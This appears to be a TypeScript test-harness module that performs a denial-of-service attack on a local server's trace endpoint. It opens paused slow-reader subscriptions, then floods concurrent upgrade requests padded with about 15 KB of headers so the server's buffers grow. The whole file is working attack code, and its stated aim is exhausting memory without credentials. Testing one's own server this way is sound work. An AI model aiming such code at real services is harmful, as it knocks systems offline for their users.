/** Traces that get many events and are hardly read, as a stranger can make them without a credential. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { upgradeRequest } from './attacker.ts';

export interface TraceAttack {
  readonly port: number;
  readonly tls: boolean;
  readonly traces: number;
  /** Refused upgrades, each with header fields of 15 KB, over all traces. */
  readonly upgrades: number;
  /** Least milliseconds that they take. */
  readonly ms: number;
}

/** Upgrades at the same time. */
const AT_ONCE = 40;

/** Milliseconds from one small reading of a trace to the next. */
const READ_MS = 500;

const headers = Object.fromEntries(
  Array.from({ length: 75 }, (_, at) => [
    `X-Padding-${'abcdefgh'[at >> 3]}${'ijklmnop'[at & 7]}`,
    'ä '.repeat(60),
  ]),
);

/** @param told - called once a second with what was sent so far */
export async function feedTraces(
  attack: TraceAttack,
  told: (sent: number) => void = () => {},
): Promise<void> {
  const ids = Array.from({ length: attack.traces }, (_, at) => (at + 1).toString(16).padStart(32, '0'));
  const readers = await Promise.all(ids.map((id) => subscribe(attack, id)));
  const reading = setInterval(() => {
    // Enough to count as a slow reader, but too little to keep up.
    for (const reader of readers) reader.read(Math.min(reader.readableLength, 1024));
  }, READ_MS);
  let sent = 0;
  const telling = setInterval(() => told(sent), 1000);
  const start = performance.now();
  const feed = async () => {
    while (sent < attack.upgrades) {
      const id = ids[sent % ids.length] ?? '';
      sent++;
      const aheadMs = (sent / attack.upgrades) * attack.ms - (performance.now() - start);
      if (aheadMs > 0) await pause(aheadMs);
      await upgrade(attack, `/nowhere?trace=${id}`);
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, feed));
  clearInterval(reading);
  clearInterval(telling);
  for (const reader of readers) reader.destroy();
}

async function subscribe(attack: TraceAttack, id: string): Promise<Socket> {
  const socket = await open(attack);
  socket.pause();
  socket.write(`GET /trace/${id} HTTP/1.1\r\nHost: localhost\r\n\r\n`);
  await once(socket, 'readable');
  return socket;
}

async function upgrade(attack: TraceAttack, path: string): Promise<void> {
  const socket = await open(attack);
  socket.write(upgradeRequest(path, headers));
  socket.resume();
  if (!socket.closed) await new Promise((resolve) => socket.once('close', resolve));
}

async function open({ port, tls }: TraceAttack): Promise<Socket> {
  const socket = tls
    ? connectTls({ port, host: '127.0.0.1', rejectUnauthorized: false })
    : connect(port, '127.0.0.1');
  socket.on('error', () => {});
  await Promise.race([
    once(socket, tls ? 'secureConnect' : 'connect').catch(() => {}),
    new Promise((resolve) => socket.once('close', resolve)),
  ]);
  return socket;
}
